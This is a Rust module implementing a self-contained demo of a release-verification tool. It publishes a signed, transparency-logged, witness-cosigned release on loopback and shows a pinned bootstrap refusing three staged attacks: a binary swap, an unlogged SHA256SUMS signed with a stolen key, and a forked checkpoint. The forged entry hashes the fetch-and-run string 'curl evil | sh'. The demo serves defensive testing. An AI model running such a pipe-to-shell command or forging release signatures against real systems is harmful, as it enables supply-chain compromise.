//! `rget demo`: the whole mission on one machine, with real parts. In a fresh workspace it makes a
//! release key, a transparency log and two witnesses (real `rget log serve` / `rget witness serve`
//! processes on loopback, a 2-of-2 policy), an HTTPS release server with its own CA, publishes a
//! release of the running rget binary with `rget release`, builds an `rget-bootstrap` pinned to it
//! (`cargo build` with `RGET_PINNED_DIR`), runs that bootstrap to install and execute the verified
//! rget, and then shows three attacks refused by the same bootstrap with their real error messages.
//! Last, the Sigsum path: a Sigsum log (`rget log init --sigsum`) cosigned by the same witnesses, a
//! release published into it with `rget release --sigsum-…`, verified by `rget get` against its
//! `SHA256SUMS.proof`.
//! Everything it started is stopped and its workspace removed on every way out (see
//! [`children::Children`]).

pub mod children;
pub mod fork;
pub mod https;

use crate::client::own_release::{TARGET, VERSION};
use crate::publish::{self, SecretKeyFile};
use children::{Children, Started};
use rget_core::digest::sha256;
use rget_core::pins::binary_name;
use std::ffi::OsString;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

/// Where the demo runs and what it builds with.
pub struct Options {
    /// The rget binary to release and to run the servers with (the running one).
    pub exe: PathBuf,
    /// The rget source tree (for `cargo build -p rget-bootstrap`).
    pub source: PathBuf,
    /// Cargo's target directory for the bootstrap build.
    pub target_dir: PathBuf,
    /// Keep the workspace (for inspection) instead of removing it.
    pub keep: bool,
    /// Where to create the workspace.
    pub tmp: PathBuf,
}

/// One attack and how it was refused. `rget demo --json` prints it as it is (fields in this order).
#[derive(Debug, Clone, serde::Serialize)]
pub struct Attack {
    /// What the attacker did, in a few words.
    pub name: &'static str,
    /// The bootstrap exited with failure.
    pub refused: bool,
    /// The bootstrap's exit code (`None` if a signal ended it).
    pub exit_code: Option<i32>,
    /// The bootstrap's own one-line error.
    pub error: String,
    /// What the check that stopped it proves.
    pub stopped_by: &'static str,
    /// The installed rget is still the verified one, and nothing else was written.
    pub destination_untouched: bool,
}

/// The Sigsum step: a release logged in a Sigsum log and fetched with `rget get`. `rget demo
/// --json` prints it as it is (fields in this order).
#[derive(Debug, Clone, Default, serde::Serialize)]
pub struct SigsumStep {
    /// The Sigsum log's origin, `sigsum.org/v1/tree/<key hash>`.
    pub log: String,
    /// The release's leaf index, from `rget get --json` (0 if the report lacks it).
    pub leaf_index: u64,
    /// The size of the tree the proof was checked under, from `rget get --json` (0 if the report
    /// lacks it).
    pub tree_size: u64,
    /// The witnesses whose cosignatures `rget get` verified.
    pub witnesses: Vec<String>,
    /// `rget get` verified the file and saved exactly the released bytes.
    pub verified: bool,
}

/// What the demo did and saw. `rget demo --json` prints it as it is (fields in this order).
#[derive(Debug, Clone, Default, serde::Serialize)]
pub struct Account {
    /// The temporary directory everything ran in.
    #[serde(serialize_with = "display")]
    pub workspace: PathBuf,
    /// The version the running rget was released as.
    pub version: String,
    /// SHA-256 (hex) of the released binary: the running rget.
    pub released_sha256: String,
    /// SHA-256 (hex) of the bootstrap built with the demo's pins.
    pub bootstrap_sha256: String,
    /// The installed file is byte for byte the released binary.
    pub installed: bool,
    /// What the executed rget reported as its own digest (`self verify`, hashing /proc/self/exe).
    pub executed_sha256: String,
    /// The release record's index in the log, as the executed rget reported it.
    pub log_index: Option<u64>,
    /// The bootstrap's `ok: ` lines, one per check that passed.
    pub bootstrap_checks: Vec<String>,
    /// Each attack on the release and how the bootstrap refused it.
    pub attacks: Vec<Attack>,
    /// The Sigsum step, if the demo got that far.
    pub sigsum: Option<SigsumStep>,
    /// Process ids of the servers the demo started.
    pub server_pids: Vec<u32>,
    /// After cleanup: no server alive and the workspace gone (or kept on request).
    pub cleaned_up: bool,
    /// Wall time of the whole demo, in seconds.
    #[serde(serialize_with = "hundredths")]
    pub seconds: f64,
}

/// A path as it displays (a non-UTF-8 byte replaced), for the JSON account.
fn display<S: serde::Serializer>(p: &Path, s: S) -> Result<S::Ok, S::Error> {
    s.collect_str(&p.display())
}

/// Seconds to the hundredth, for the JSON account.
fn hundredths<S: serde::Serializer>(t: &f64, s: S) -> Result<S::Ok, S::Error> {
    s.serialize_f64((t * 100.0).round() / 100.0)
}

/// Runs the demo; `say` gets one line per step as it happens.
pub fn run(opts: &Options, say: &mut dyn FnMut(&str)) -> Result<Account, String> {
    let started = Instant::now();
    // Checked first: the bootstrap is built from source near the end, and nothing should start
    // before we know it can.
    if !opts.source.join("bootstrap").join("build.rs").is_file() {
        return Err(format!(
            "{} is not the rget source tree (no bootstrap/build.rs): give --source DIR",
            opts.source.display()
        ));
    }
    let ws = make_workspace(&opts.tmp)?;
    let kids = Children::new(&ws, opts.keep);
    kids.exit_on_signals()?;
    let mut account = Account {
        workspace: ws.clone(),
        version: VERSION.to_owned(),
        ..Account::default()
    };
    say(&format!(
        "workspace {} (pid {})",
        ws.display(),
        std::process::id()
    ));
    let result = steps(opts, &ws, &kids, &mut account, say);
    account.server_pids = kids.server_pids();
    kids.cleanup(Duration::from_secs(5));
    account.cleaned_up =
        account.server_pids.iter().all(|p| !children::alive(*p)) && (opts.keep || !ws.exists());
    account.seconds = started.elapsed().as_secs_f64();
    result.map(|()| account)
}

/// `<tmp>/rget-demo-<random>`, mode 0700.
fn make_workspace(tmp: &Path) -> Result<PathBuf, String> {
    use std::os::unix::fs::DirBuilderExt;
    let mut r = [0u8; 6];
    getrandom::fill(&mut r).map_err(|e| e.to_string())?;
    let ws = tmp.join(format!("rget-demo-{}", hex::encode(r)));
    std::fs::DirBuilder::new()
        .mode(0o700)
        .create(&ws)
        .map_err(|e| format!("cannot create {}: {e}", ws.display()))?;
    Ok(ws)
}

fn os(args: &[&str]) -> Vec<OsString> {
    args.iter().map(OsString::from).collect()
}

fn p(path: &Path) -> &str {
    path.to_str().unwrap_or_default()
}

/// At most this many lines of cargo's output are shown when the bootstrap does not build.
const CARGO_LINES: usize = 20;

/// The lines of cargo's standard error that say why a build failed: each `error` line and the
/// `-->` line naming where it is, at most [`CARGO_LINES`]; without any, its last [`CARGO_LINES`]
/// lines.
fn cargo_errors(stderr: &str) -> Vec<String> {
    let errors: Vec<String> = stderr
        .lines()
        .filter(|l| l.starts_with("error") || l.trim_start().starts_with("--> "))
        .take(CARGO_LINES)
        .map(str::to_owned)
        .collect();
    if !errors.is_empty() {
        return errors;
    }
    let lines: Vec<&str> = stderr.lines().filter(|l| !l.trim().is_empty()).collect();
    lines[lines.len().saturating_sub(CARGO_LINES)..]
        .iter()
        .map(|l| (*l).to_owned())
        .collect()
}

/// Runs `rget ARGS` to success, or fails with its last error line.
fn rget(kids: &Children, exe: &Path, args: &[&str]) -> Result<Output, String> {
    let out = kids.run(Command::new(exe).args(args))?;
    if !out.status.success() {
        return Err(format!(
            "rget {} failed: {}",
            args.first().copied().unwrap_or_default(),
            last_line(&out.stderr)
        ));
    }
    Ok(out)
}

fn last_line(b: &[u8]) -> String {
    String::from_utf8_lossy(b)
        .lines()
        .rev()
        .find(|l| !l.trim().is_empty())
        .unwrap_or("")
        .to_owned()
}

/// The verifier key of the policy line an `init` printed without `--url`: its last field
/// (`log <vkey>`, `witness <name> <vkey>`).
fn init_key(out: &Output) -> String {
    let line = last_line(&out.stdout);
    line.rsplit(' ').next().unwrap_or_default().to_owned()
}

fn dir(ws: &Path, name: &str) -> Result<PathBuf, String> {
    let d = ws.join(name);
    std::fs::create_dir_all(&d).map_err(|e| format!("cannot create {}: {e}", d.display()))?;
    Ok(d)
}

fn write(path: &Path, bytes: impl AsRef<[u8]>) -> Result<(), String> {
    std::fs::write(path, bytes).map_err(|e| format!("cannot write {}: {e}", path.display()))
}

fn read(path: &Path) -> Result<Vec<u8>, String> {
    std::fs::read(path).map_err(|e| format!("cannot read {}: {e}", path.display()))
}

const LOG_ORIGIN: &str = "demo.rget.example/log";

fn steps(
    opts: &Options,
    ws: &Path,
    kids: &Children,
    account: &mut Account,
    say: &mut dyn FnMut(&str),
) -> Result<(), String> {
    let exe = &opts.exe;

    // 1. The publisher's release key, minisign-compatible.
    let keys = dir(ws, "keys")?;
    let (key_pub, key_sec) = (keys.join("release.pub"), keys.join("release.key"));
    rget(
        kids,
        exe,
        &["keygen", "-W", "-p", p(&key_pub), "-s", p(&key_sec)],
    )?;
    say(&format!(
        "1. release key     rget keygen -W: {}",
        p(&key_pub)
    ));

    // 2. Two witnesses, then the log that needs both of them to cosign every checkpoint.
    let log_dir = ws.join("log");
    let log_vkey = init_key(&rget(
        kids,
        exe,
        &["log", "init", "--origin", LOG_ORIGIN, p(&log_dir)],
    )?);
    // The Sigsum log of the last step: the witnesses cosign it too.
    let sigsum_dir = ws.join("sigsum-log");
    let sigsum_vkey = init_key(&rget(
        kids,
        exe,
        &["log", "init", "--sigsum", p(&sigsum_dir)],
    )?);
    let witness_policy = ws.join("witness-policy");
    write(
        &witness_policy,
        format!("log {log_vkey}\nlog {sigsum_vkey}\nquorum none\n"),
    )?;
    let mut witnesses: Vec<(String, Started)> = Vec::new();
    for i in 1..=2 {
        let wdir = ws.join(format!("witness{i}"));
        let name = format!("demo.rget.example/witness{i}");
        let vkey = init_key(&rget(
            kids,
            exe,
            &["witness", "init", "--name", &name, p(&wdir)],
        )?);
        let s = kids.start_server(
            exe,
            &os(&[
                "witness",
                "serve",
                p(&wdir),
                "--listen",
                "127.0.0.1:0",
                "--policy",
                p(&witness_policy),
            ]),
            &ws.join(format!("witness{i}.log")),
        )?;
        say(&format!(
            "2. witness {i}       rget witness serve at {} (pid {})",
            s.base, s.pid
        ));
        witnesses.push((vkey, s));
    }
    let mut witness_lines = String::new();
    for (i, (vkey, s)) in witnesses.iter().enumerate() {
        witness_lines.push_str(&format!("witness w{} {vkey} {}/\n", i + 1, s.base));
    }
    let quorum = "group both all w1 w2\nquorum both\n";
    let log_witnesses = ws.join("log-witnesses");
    write(&log_witnesses, format!("{witness_lines}{quorum}"))?;
    let log = kids.start_server(
        exe,
        &os(&[
            "log",
            "serve",
            p(&log_dir),
            "--listen",
            "127.0.0.1:0",
            "--batch-delay",
            "10",
            "--witnesses",
            p(&log_witnesses),
        ]),
        &ws.join("log.log"),
    )?;
    say(&format!(
        "3. log             rget log serve {LOG_ORIGIN} at {} (pid {}), 2-of-2 witnesses",
        log.base, log.pid
    ));
    let policy = ws.join("policy");
    let mut client_policy = format!("log {log_vkey} {}/\n", log.base);
    for (i, (vkey, _)) in witnesses.iter().enumerate() {
        client_policy.push_str(&format!("witness w{} {vkey}\n", i + 1));
    }
    client_policy.push_str(quorum);
    write(&policy, &client_policy)?;

    // 3. The release host: static HTTPS with its own CA.
    let www = dir(ws, "www")?;
    let srv = https::start(&www, &dir(ws, "tls")?)?;
    say(&format!(
        "4. release server  HTTPS at {} (CA {})",
        srv.base,
        p(&srv.ca_pem)
    ));

    // 4. Publish the running rget as a release: SHA256SUMS, signature, log proof.
    let name = binary_name(VERSION, TARGET);
    let rel_dir = dir(&www, &format!("rget/v{VERSION}"))?;
    let bytes = read(exe)?;
    account.released_sha256 = sha256(&bytes).to_hex();
    write(&rel_dir.join(&name), &bytes)?;
    let base_url = format!("{}/rget/v{VERSION}/", srv.base);
    rget(
        kids,
        exe,
        &[
            "release",
            p(&rel_dir),
            "--key",
            p(&key_sec),
            "--url",
            &base_url,
            "--log",
            &format!("{}/", log.base),
            "--policy",
            p(&policy),
            "--allow-http",
            "--cacert",
            p(&srv.ca_pem),
            "--state",
            p(&ws.join("publisher-state")),
        ],
    )?;
    say(&format!(
        "5. release         rget release: {name} (sha256 {}), SHA256SUMS signed, logged and cosigned by both witnesses",
        account.released_sha256
    ));

    // 5. A bootstrap pinned to this release.
    let pins = dir(ws, "pins")?;
    write(&pins.join("SHA256SUMS"), read(&rel_dir.join("SHA256SUMS"))?)?;
    write(&pins.join("release.pub"), read(&key_pub)?)?;
    write(&pins.join("policy"), &client_policy)?;
    write(
        &pins.join("source"),
        format!("{}/rget/v{{version}}/\n", srv.base),
    )?;
    say(
        "6. bootstrap       cargo build -p rget-bootstrap with RGET_PINNED_DIR (the first run compiles its dependencies)",
    );
    let boot = build_bootstrap(opts, &pins, ws, kids)?;
    account.bootstrap_sha256 = sha256(&read(&boot)?).to_hex();
    say(&format!(
        "                  rget-bootstrap sha256 {}",
        account.bootstrap_sha256
    ));

    // 6. The bootstrap installs and runs the verified rget, which verifies itself.
    let bin = dir(ws, "bin")?;
    let host_state = ws.join("host-state");
    let out = kids.run(bootstrap_cmd(&boot, &bin, &srv.ca_pem).args([
        "--",
        "self",
        "verify",
        "--json",
        "--pins",
        p(&pins),
        "--cacert",
        p(&srv.ca_pem),
        "--allow-http",
        "--state",
        p(&host_state),
    ]))?;
    let stderr = String::from_utf8_lossy(&out.stderr);
    account.bootstrap_checks = stderr
        .lines()
        .filter(|l| l.starts_with("ok: "))
        .map(str::to_owned)
        .collect();
    if !out.status.success() {
        return Err(format!("the bootstrap failed: {}", last_line(&out.stderr)));
    }
    // The executed rget's `self verify --json` report: what it hashed itself to, and where its
    // record is. Anything else (not JSON, fields missing) leaves them empty, and the account says so.
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    account.executed_sha256 = report["sha256"].as_str().unwrap_or_default().to_owned();
    account.log_index = report["log"]["index"].as_u64();
    account.installed = read(&bin.join("rget"))? == bytes;
    for c in &account.bootstrap_checks {
        say(&format!("                  {c}"));
    }
    say(&format!(
        "7. install + exec  {} installed; the executed rget hashed itself: {} ({})",
        p(&bin.join("rget")),
        account.executed_sha256,
        if account.executed_sha256 == account.released_sha256 {
            "the released digest"
        } else {
            "NOT the released digest"
        }
    ));

    // 7. The attacks, each against the same bootstrap and the same install directory.
    let installed = read(&bin.join("rget"))?;
    let rel_bin = rel_dir.join(&name);
    let sums_path = rel_dir.join("SHA256SUMS");
    let (sums, minisig, proof) = (
        read(&sums_path)?,
        read(&rel_dir.join("SHA256SUMS.minisig"))?,
        read(&rel_dir.join("SHA256SUMS.tlog-proof"))?,
    );
    let attack = |name: &'static str, stopped_by: &'static str| -> Result<Attack, String> {
        let out = kids.run(bootstrap_cmd(&boot, &bin, &srv.ca_pem).args(["--", "--version"]))?;
        let untouched =
            read(&bin.join("rget"))? == installed && only(&bin, &["rget", "rget.previous"]);
        Ok(Attack {
            name,
            stopped_by,
            refused: !out.status.success(),
            exit_code: out.status.code(),
            error: last_line(&out.stderr),
            destination_untouched: untouched,
        })
    };

    // a. The release host swaps the binary.
    let mut evil = bytes.clone();
    evil.extend_from_slice(b"\n# a backdoor\n");
    write(&rel_bin, &evil)?;
    account.attacks.push(attack(
        "a binary swapped on the release server",
        "the pinned digest: the bootstrap accepts only the bytes it was built to accept",
    )?);
    write(&rel_bin, &bytes)?;
    report_attack(account.attacks.last(), 8, say);

    // b. A stolen release key signs a SHA256SUMS that was never logged.
    let evil_sums = [
        &sums[..],
        format!("{}  rget-tools.sh\n", sha256(b"curl evil | sh")).as_bytes(),
    ]
    .concat();
    let evil_sig = stolen_key_signs(&key_sec, &evil_sums, &format!("{base_url}SHA256SUMS"))?;
    write(&sums_path, &evil_sums)?;
    write(&rel_dir.join("SHA256SUMS.minisig"), &evil_sig)?;
    account.attacks.push(attack(
        "an unlogged SHA256SUMS signed with a stolen release key",
        "the transparency log: a SHA256SUMS counts only if its record is in the log everyone sees",
    )?);
    report_attack(account.attacks.last(), 9, say);

    // c. The log key signs a forked tree in which that SHA256SUMS is included.
    let size = log_size(&log_dir)?;
    let log_key = String::from_utf8(read(&log_dir.join("log.key"))?).map_err(|e| e.to_string())?;
    let forged = fork::forged_proof(&log_key, size, &format!("{base_url}SHA256SUMS"), &evil_sums)?;
    write(&rel_dir.join("SHA256SUMS.tlog-proof"), &forged)?;
    account.attacks.push(attack(
        "a forked checkpoint signed by the log's own key",
        "the witnesses: they cosign one view of the log only, so a fork misses the 2-of-2 quorum",
    )?);
    report_attack(account.attacks.last(), 10, say);
    write(&sums_path, &sums)?;
    write(&rel_dir.join("SHA256SUMS.minisig"), &minisig)?;
    write(&rel_dir.join("SHA256SUMS.tlog-proof"), &proof)?;

    // 8. The Sigsum path: the same witnesses cosign a Sigsum log; a release logged in it with
    // `rget release --sigsum-…` is fetched with `rget get` and proved by SHA256SUMS.proof.
    let sigsum = SigsumSetup {
        dir: &sigsum_dir,
        vkey: &sigsum_vkey,
        witnesses: &witnesses,
        log_witnesses: &log_witnesses,
        www: &www,
        srv: &srv,
    };
    account.sigsum = Some(sigsum_step(exe, ws, kids, &sigsum, say)?);
    Ok(())
}

/// What the Sigsum step reuses from the rest of the demo.
struct SigsumSetup<'a> {
    dir: &'a Path,
    vkey: &'a str,
    witnesses: &'a [(String, Started)],
    log_witnesses: &'a Path,
    www: &'a Path,
    srv: &'a https::FileServer,
}

/// Serves the Sigsum log, publishes a release into it with `rget release --sigsum-…` and fetches it
/// with `rget get` under the Sigsum policy and the publisher's ssh-ed25519 key.
fn sigsum_step(
    exe: &Path,
    ws: &Path,
    kids: &Children,
    s: &SigsumSetup<'_>,
    say: &mut dyn FnMut(&str),
) -> Result<SigsumStep, String> {
    let log = kids.start_server(
        exe,
        &os(&[
            "log",
            "serve",
            p(s.dir),
            "--listen",
            "127.0.0.1:0",
            "--batch-delay",
            "10",
            "--witnesses",
            p(s.log_witnesses),
        ]),
        &ws.join("sigsum-log.log"),
    )?;
    // A Sigsum policy names keys in hex: the log's, and each witness's.
    let hex_key = |vkey: &str| {
        rget_core::note::VerifierKey::parse(vkey)
            .map(|k| hex::encode(k.public_key))
            .map_err(|e| format!("{vkey}: {e}"))
    };
    let mut policy = format!("log {} {}/\n", hex_key(s.vkey)?, log.base);
    for (i, (vkey, _)) in s.witnesses.iter().enumerate() {
        policy.push_str(&format!("witness w{} {}\n", i + 1, hex_key(vkey)?));
    }
    policy.push_str("group both all w1 w2\nquorum both\n");
    let policy_path = ws.join("sigsum-policy");
    write(&policy_path, &policy)?;
    let key = ws.join("keys").join("sigsum.key");
    rget(kids, exe, &["keygen", "--ssh", "-s", p(&key)])?;
    let rel_dir = dir(s.www, &format!("sigsum/v{VERSION}"))?;
    let file = format!("hello-{VERSION}.txt");
    let bytes = format!("hello from a release logged in a Sigsum log, rget {VERSION}\n");
    write(&rel_dir.join(&file), &bytes)?;
    let base_url = format!("{}/sigsum/v{VERSION}/", s.srv.base);
    rget(
        kids,
        exe,
        &[
            "release",
            p(&rel_dir),
            "--url",
            &base_url,
            "--sigsum-policy",
            p(&policy_path),
            "--sigsum-key",
            p(&key),
            "--allow-http",
            "--state",
            p(&ws.join("publisher-state")),
        ],
    )?;
    let out = ws.join("hello.txt");
    let got = rget(
        kids,
        exe,
        &[
            "get",
            &format!("{base_url}{file}"),
            "-o",
            p(&out),
            "--json",
            "--policy",
            p(&policy_path),
            "--key",
            &format!("{}.pub", p(&key)),
            "--cacert",
            p(&s.srv.ca_pem),
            "--allow-http",
            "--state",
            p(&ws.join("host-state")),
        ],
    )?;
    // The `rget get --json` report: anything else (not JSON, fields missing) leaves them empty, and
    // the account says so.
    let report: serde_json::Value = serde_json::from_slice(&got.stdout).unwrap_or_default();
    let sigsum = &report["sigsum"];
    let step = SigsumStep {
        log: report["log"]["origin"]
            .as_str()
            .unwrap_or_default()
            .to_owned(),
        leaf_index: sigsum["leaf_index"].as_u64().unwrap_or(0),
        tree_size: sigsum["tree_size"].as_u64().unwrap_or(0),
        witnesses: sigsum["witnesses"]
            .as_array()
            .map(|ws| {
                ws.iter()
                    .filter_map(|w| w["name"].as_str().map(str::to_owned))
                    .collect()
            })
            .unwrap_or_default(),
        verified: read(&out)? == bytes.as_bytes(),
    };
    say(&format!(
        "11. sigsum         rget release --sigsum-…: {file} logged as leaf {} of Sigsum log {} (rget log serve, pid {}; tree size {}, cosigned by {}); rget get verified it against SHA256SUMS.proof",
        step.leaf_index,
        step.log,
        log.pid,
        step.tree_size,
        step.witnesses.join(" and ")
    ));
    Ok(step)
}

/// Signs `sums` with the unencrypted release key at `key_path`, as `rget release` would: what an
/// attacker holding a stolen release key does.
fn stolen_key_signs(key_path: &Path, sums: &[u8], sums_url: &str) -> Result<Vec<u8>, String> {
    let text = std::str::from_utf8(sums).map_err(|_| "SHA256SUMS is not UTF-8".to_owned())?;
    let key = SecretKeyFile::read(key_path)
        .and_then(|f| f.unlock(None))
        .map_err(|e| e.to_string())?;
    publish::sign_sums(&key, text, sums_url)
        .map(String::into_bytes)
        .map_err(|e| e.to_string())
}

fn report_attack(a: Option<&Attack>, n: usize, say: &mut dyn FnMut(&str)) {
    if let Some(a) = a {
        say(&format!(
            "{n}. attack          {}: {} (exit {}) {}",
            a.name,
            if a.refused { "REFUSED" } else { "NOT REFUSED" },
            a.exit_code.map_or("?".into(), |c| c.to_string()),
            a.error
        ));
    }
}

/// Whether `dir` holds nothing but (some of) `names`.
fn only(dir: &Path, names: &[&str]) -> bool {
    std::fs::read_dir(dir)
        .map(|rd| {
            rd.flatten()
                .all(|e| names.contains(&e.file_name().to_string_lossy().as_ref()))
        })
        .unwrap_or(false)
}

fn bootstrap_cmd(boot: &Path, bin: &Path, ca: &Path) -> Command {
    let mut c = Command::new(boot);
    c.args(["--prefix", p(bin), "--cacert", p(ca)]);
    c
}

/// The published checkpoint's size (the second line of `log/public/checkpoint`).
fn log_size(log_dir: &Path) -> Result<u64, String> {
    let cp = String::from_utf8(read(&log_dir.join("public").join("checkpoint"))?)
        .map_err(|e| e.to_string())?;
    cp.lines()
        .nth(1)
        .and_then(|l| l.parse().ok())
        .ok_or_else(|| "the log's checkpoint has no size".to_owned())
}

/// `cargo build -p rget-bootstrap` with the demo's pins; returns the copied binary.
fn build_bootstrap(
    opts: &Options,
    pins: &Path,
    ws: &Path,
    kids: &Children,
) -> Result<PathBuf, String> {
    let manifest = opts.source.join("Cargo.toml");
    let cargo = std::env::var_os("CARGO").unwrap_or_else(|| "cargo".into());
    let out = kids.run(
        Command::new(cargo)
            .args([
                "build",
                "--locked",
                "-p",
                "rget-bootstrap",
                "--manifest-path",
            ])
            .arg(&manifest)
            .env("CARGO_TARGET_DIR", &opts.target_dir)
            .env("RGET_PINNED_DIR", pins),
    )?;
    if !out.status.success() {
        // Why cargo failed is in its error lines (the last line only says that it failed): show
        // them, bounded, escaped, before the one-line error.
        let why = cargo_errors(&String::from_utf8_lossy(&out.stderr));
        let mut err = std::io::stderr().lock();
        for line in &why {
            let _ = writeln!(err, "  cargo: {}", rget_core::escape::for_terminal(line));
        }
        return Err(format!(
            "building the bootstrap failed: {} (cargo's output above; the command: cargo build \
             --locked -p rget-bootstrap --manifest-path {})",
            why.iter()
                .find(|l| l.starts_with("error"))
                .map_or_else(|| last_line(&out.stderr), Clone::clone),
            manifest.display()
        ));
    }
    let built = opts.target_dir.join("debug").join("rget-bootstrap");
    let boot = ws.join("rget-bootstrap");
    std::fs::copy(&built, &boot).map_err(|e| format!("cannot copy {}: {e}", built.display()))?;
    Ok(boot)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cargo_errors_are_the_error_lines_bounded() {
        let out = "   Compiling x v0.1.0\nerror[E0308]: mismatched types\n --> src/main.rs:1:25\n  |\nerror: could not compile `x`\n";
        assert_eq!(
            cargo_errors(out),
            [
                "error[E0308]: mismatched types",
                " --> src/main.rs:1:25",
                "error: could not compile `x`"
            ]
        );
        let many: String = (0..50).map(|i| format!("error: e{i}\n")).collect();
        assert_eq!(cargo_errors(&many).len(), CARGO_LINES);
        let plain: String = (0..30).map(|i| format!("line {i}\n")).collect();
        let last = cargo_errors(&plain);
        assert_eq!(last.len(), CARGO_LINES);
        assert_eq!(last.last().map(String::as_str), Some("line 29"));
    }
}
